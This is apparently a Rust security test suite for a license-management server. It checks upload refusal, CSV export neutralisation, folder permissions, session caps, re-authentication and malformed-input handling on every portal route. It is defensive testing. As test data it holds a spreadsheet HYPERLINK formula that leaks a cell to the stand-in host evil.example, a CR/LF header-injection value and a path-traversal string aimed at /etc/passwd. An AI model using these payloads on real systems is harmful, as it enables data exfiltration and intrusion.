//! The security review (issue 10), items 6–11: files, exports, folder modes,
//! sessions, the malformed-input sweep over every portal route, re-authentication.

use std::os::unix::fs::PermissionsExt;

use serde_json::json;
use sha2::Digest;

use super::helpers::{call, Opts, Server};
use super::security::{customer, early_answer, license_for, PW};
use super::web::{multipart, Web};

fn cookie_header(w: &Web) -> String {
    w.cookie_header()
}

/// Item 6: uploads are refused before the file is read; downloads stream with
/// Range support and the checksum the customer sees.
#[test]
fn item06_uploads_checked_first_downloads_streamed() {
    let s = Server::start();
    let cid = customer(&s, "dan@example.com", "Dan");
    let _key = license_for(&s, &cid, 3);
    let (_, products) = s.admin("GET", "/production/products", None);
    let product = products.as_array().unwrap()[0]["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let admin = Web::admin(&s);
    let bytes: Vec<u8> = (0..300_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let csrf = admin.csrf();
    let (ct, body) = multipart(
        &[
            ("csrf", &csrf),
            ("env", "production"),
            ("title", "App"),
            ("version", "1.0"),
            ("channel", "stable"),
            ("released", "2026-01-10"),
        ],
        ("app.bin", &bytes),
    );
    let r = admin.post_bytes(&format!("/admin/products/{product}/files"), &ct, &body);
    assert_eq!(r.status, 303, "{}", r.text());
    let sha = hex::encode(sha2::Sha256::digest(&bytes));

    let w = Web::customer(&s, "dan@example.com", PW);
    let page = w.get("/portal/downloads").text();
    assert!(page.contains(&sha), "the page shows the SHA-256");
    let href = page.split("href=\"/portal/downloads/").nth(1).unwrap();
    let url = super::web::unescape(&format!(
        "/portal/downloads/{}",
        &href[..href.find('"').unwrap()]
    ));
    let full = w.get(&url);
    assert_eq!(full.status, 200, "{url}: {}", full.text());
    assert_eq!(hex::encode(sha2::Sha256::digest(&full.body)), sha);
    let part = call(
        ureq::get(&s.url(&url))
            .set("cookie", &cookie_header(&w))
            .set("range", "bytes=100-199"),
        None,
    );
    assert_eq!(part.status, 206);
    assert_eq!(part.body, &bytes[100..200]);

    // A read-only admin: refused before any byte of the body is read.
    let r = admin.submit(
        "/admin/admins",
        &[
            ("env", "production"),
            ("name", "Ro"),
            ("email", "ro@test.local"),
            ("role", "readonly"),
            ("password", "reader-password"),
        ],
    );
    assert_eq!(r.status, 303);
    let ro = Web::new(&s);
    assert_eq!(ro.login("ro@test.local", "reader-password").status, 303);
    let boundary = "----kwboundary";
    let ct = format!("multipart/form-data; boundary={boundary}");
    let head = [("content-type", ct.clone()), ("cookie", cookie_header(&ro))];
    let line = early_answer(&s, &format!("/admin/products/{product}/files"), &head, b"");
    assert!(line.contains(" 403 "), "read-only upload: {line}");
    // A full admin without the session's token: refused once the token field is read,
    // before the 200 MB file.
    let first = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\nforged\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.bin\"\r\n\r\nAAAA"
    );
    let head = [("content-type", ct), ("cookie", cookie_header(&admin))];
    let line = early_answer(
        &s,
        &format!("/admin/products/{product}/files"),
        &head,
        first.as_bytes(),
    );
    assert!(line.contains(" 403 "), "forged upload: {line}");
}

/// Item 7: a formula in a customer's name is neutralised in CSV exports.
#[test]
fn item07_csv_exports_neutralise_formulas() {
    let s = Server::start();
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")";
    let (st, c) = s.admin(
        "POST",
        "/customers",
        Some(json!({"email": "eve@example.com", "name": evil})),
    );
    assert_eq!(st, 201, "{c}");
    license_for(&s, c["id"].as_str().unwrap(), 1);
    let api = s.admin_raw("GET", "/production/licenses/export?format=csv", None);
    let portal = Web::admin(&s).get("/admin/licenses/export?format=csv&env=production");
    for (name, r) in [("admin API", api), ("admin portal", portal)] {
        assert_eq!(r.status, 200, "{name}");
        let mut rd = csv::Reader::from_reader(r.body.as_slice());
        let row = rd.records().next().unwrap().unwrap();
        let cell = row.iter().find(|c| c.contains("HYPERLINK")).unwrap();
        assert!(cell.starts_with("'="), "{name}: {cell}");
    }
}

/// Item 8: the data folder is private, and an open one is closed at start.
#[test]
fn item08_data_folder_is_private() {
    let s = Server::start();
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&s.dir), 0o700);
    assert_eq!(mode(&s.dir.join("production.redb")), 0o600);
    assert_eq!(mode(&s.dir.join("outbox")), 0o700);
    let dir = s.dir.clone();
    let mut s = s;
    s.kill();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(
        dir.join("global.redb"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    let s = s.restart(Opts::default());
    assert_eq!(mode(&dir), 0o700);
    assert_eq!(mode(&dir.join("global.redb")), 0o600);
    assert!(s.logs().contains("made it 0700"), "{}", s.logs());
}

/// Item 9: sessions per account are capped, oldest first, others untouched.
#[test]
fn item09_sessions_per_account_are_capped() {
    let s = Server::start_with(Opts::default().env("KEYWARDEN_LIMITS__SESSIONS_PER_ACCOUNT", "3"));
    customer(&s, "sam@example.com", "Sam");
    let other = Web::customer(&s, "sam@example.com", PW);
    let mine: Vec<Web> = (0..5).map(|_| Web::admin(&s)).collect();
    assert_eq!(
        mine[0].get("/admin").status,
        303,
        "the oldest session ended"
    );
    assert_eq!(mine[1].get("/admin").status, 303);
    assert_eq!(mine[4].get("/admin").status, 200);
    assert_eq!(
        other.get("/portal").status,
        200,
        "another account keeps its session"
    );
}

/// Item 11: the re-authentication setting gates every page with metadata.
#[test]
fn item11_reauthentication_covers_edit_and_customer_pages() {
    let s = Server::start();
    let cid = customer(&s, "meta@example.com", "Meta");
    let key = license_for(&s, &cid, 3);
    let (st, _) = s.admin(
        "PATCH",
        &format!("/production/licenses/{key}"),
        Some(json!({"metadata": {"secret_note": "hidden-value-42"}})),
    );
    assert_eq!(st, 200);
    let w = Web::admin(&s);
    let r = w.submit(
        "/admin/settings",
        &[
            ("env", "production"),
            ("grace_period_days", "7"),
            ("abuse_enabled", "on"),
            ("threshold", "5"),
            ("window_minutes", "60"),
            ("reauth_preview", "on"),
        ],
    );
    assert_eq!(r.status, 303, "{}", r.text());
    for path in [
        format!("/admin/licenses/{key}/edit?env=production"),
        format!("/admin/customers/{cid}?env=production"),
        format!("/admin/licenses/{key}?env=production"),
    ] {
        let page = w.get(&path).text();
        assert!(page.contains("reauth-form"), "{path} is gated");
        // (The key is in the address the admin opened; the page content is what is gated.)
        assert!(
            !page.contains("hidden-value-42") && !page.contains("secret_note"),
            "{path} leaks"
        );
    }
    let next = format!("/admin/licenses/{key}/edit?env=production");
    let r = w.submit(
        "/admin/reauth",
        &[
            ("env", "production"),
            ("password", super::helpers::ADMIN_PASSWORD),
            ("next", &next),
        ],
    );
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some(next.as_str()));
    assert!(w.get(&next).text().contains("hidden-value-42"));
}

/// Item 10: no portal input answers 500: every route of both portals (read from
/// the route tables) gets CR/LF, NUL, over-long and invalid percent-encodings.
#[test]
fn item10_no_portal_input_answers_a_server_error() {
    let s = Server::start();
    customer(&s, "sweep@example.com", "Sweep");
    // The original report: a CR/LF in `next` after signing in.
    let w = Web::portal(&s);
    let page = w.get("/portal/login");
    let csrf = super::web::input_value(&page.text(), "csrf").unwrap();
    let r = w.post(
        "/portal/login",
        &[
            ("csrf", &csrf),
            ("email", "sweep@example.com"),
            ("password", PW),
            ("next", "/portal\r\nSet-Cookie: x=y"),
        ],
    );
    assert_eq!(r.status, 303);
    assert_eq!(r.header("location"), Some("/portal"));
    let admin = Web::admin(&s);
    let cust = Web::customer(&s, "sweep@example.com", PW);
    let nasty = [
        "%0d%0aSet-Cookie:%20x=y",
        "%00",
        "%ff%fe",
        "%E2%80%AE",
        "%",
        "%zz",
        "\u{202e}",
        &"A".repeat(5000),
        "..%2f..%2fetc%2fpasswd",
    ];
    let mut tried = 0;
    let mut failures = Vec::new();
    for (prefix, web, file) in [
        ("/admin", &admin, "src/portal/admin/routes.rs"),
        ("/portal", &cust, "src/portal/customer/mod.rs"),
    ] {
        let src =
            std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/").to_owned() + file)
                .unwrap();
        let routes: Vec<(String, bool)> = src
            .split(".route(")
            .skip(1)
            .filter_map(|r| {
                let path = r.split('"').nth(1)?.to_owned();
                Some((path, r.split("web::").nth(1)?.starts_with("post")))
            })
            .collect();
        assert!(routes.len() > 10, "{file}: routes found");
        // Signing out would end the sweep's own session.
        for (route, post) in routes.into_iter().filter(|(r, _)| !r.contains("logout")) {
            for bad in &nasty {
                let path = format!(
                    "{prefix}{}",
                    route
                        .split('/')
                        .map(|seg| if seg.starts_with('{') { *bad } else { seg })
                        .collect::<Vec<_>>()
                        .join("/")
                );
                let query = format!("next={bad}&env={bad}&q={bad}&page={bad}&identifier={bad}&license={bad}&status={bad}&sort={bad}");
                let url = format!("{path}?{query}");
                let r = if post {
                    let csrf = web.csrf();
                    web.post(
                        &url,
                        &[
                            ("csrf", &csrf),
                            ("next", bad),
                            ("env", "production"),
                            ("identifier", bad),
                            ("email", bad),
                            ("password", bad),
                            ("name", bad),
                        ],
                    )
                } else {
                    web.get(&url)
                };
                tried += 1;
                if r.status >= 500 {
                    failures.push(format!(
                        "{} {url}: {}",
                        if post { "POST" } else { "GET" },
                        r.status
                    ));
                }
            }
            if post {
                // Random bytes as the form body (invalid UTF-8, stray '%', NULs).
                let mut x = 0x9E37_79B9_7F4A_7C15u64 ^ route.len() as u64;
                let body: Vec<u8> = (0..512)
                    .map(|_| {
                        x ^= x << 13;
                        x ^= x >> 7;
                        x ^= x << 17;
                        x as u8
                    })
                    .collect();
                let path = format!("{prefix}{}", route.replace(['{', '}'], "x"));
                for ct in [
                    "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=zz",
                ] {
                    let r = web.post_bytes(&path, ct, &body);
                    tried += 1;
                    if r.status >= 500 {
                        failures.push(format!("POST {path} ({ct}, random bytes): {}", r.status));
                    }
                }
            }
        }
    }
    assert!(tried > 200, "{tried} requests");
    assert!(failures.is_empty(), "server errors: {failures:#?}");
}
